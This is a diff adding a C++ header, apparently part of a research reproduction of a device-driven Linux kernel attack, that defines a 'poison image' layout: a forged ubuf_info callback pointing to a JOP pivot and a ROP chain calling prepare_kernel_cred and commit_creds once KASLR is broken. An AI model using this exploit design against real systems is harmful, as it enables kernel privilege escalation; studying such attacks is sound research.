@@ -1,0 +1,49 @@
+// Poison image: the malicious buffer a device plants in kernel memory.
+//
+// Layout (Figure 4 (b)/(c)):
+//
+//   +0   struct ubuf_info  { callback = &JOP-pivot-gadget; ... }
+//   +32  padding
+//   +64  ROP stack: prepare_kernel_cred ; mov rax,rdi ; commit_creds ; 0
+//
+// The JOP pivot executes %rsp = %rdi + 0x40. The kernel calls
+// callback(%rdi = &ubuf_info), so the pivot lands %rsp exactly on the ROP
+// stack at image offset 64. Gadget addresses are absolute KVAs, which is why
+// the image can only be built after KASLR is broken; the image's own KVA
+// (`ubuf_kva`) must also be known — obtaining it is the whole point of the
+// compound attacks.
+
+#ifndef SPV_ATTACK_POISON_H_
+#define SPV_ATTACK_POISON_H_
+
+#include <cstdint>
+#include <vector>
+
+#include "attack/kaslr_break.h"
+#include "base/status.h"
+#include "base/types.h"
+
+namespace spv::attack {
+
+struct PoisonLayout {
+  static constexpr uint64_t kUbufOffset = 0;
+  static constexpr uint64_t kRopOffset = 64;  // == mem::kSymJopPivotConst
+  static constexpr uint64_t kMarkerOffset = 96;  // after the 4-qword chain
+  static constexpr uint64_t kImageBytes = 112;
+  // Magic the device stamps into its poison so it can recognize its own
+  // buffer when it shows up in an echoed / forwarded TX page.
+  static constexpr uint64_t kMarker = 0x50'4f49'534f'4e21ULL;  // "POISON!"
+};
+
+// Builds the poison byte image for a buffer that will live at `ubuf_kva`.
+// Fails unless `knowledge.text_base` is known (gadget addresses are absolute).
+Result<std::vector<uint8_t>> BuildPoisonImage(const KaslrKnowledge& knowledge,
+                                              uint64_t ubuf_kva);
+
+// A placeholder image (marker only, zero callback): safe to send before KASLR
+// is broken, recognizable in TX harvests.
+std::vector<uint8_t> BuildMarkerImage();
+
+}  // namespace spv::attack
+
+#endif  // SPV_ATTACK_POISON_H_
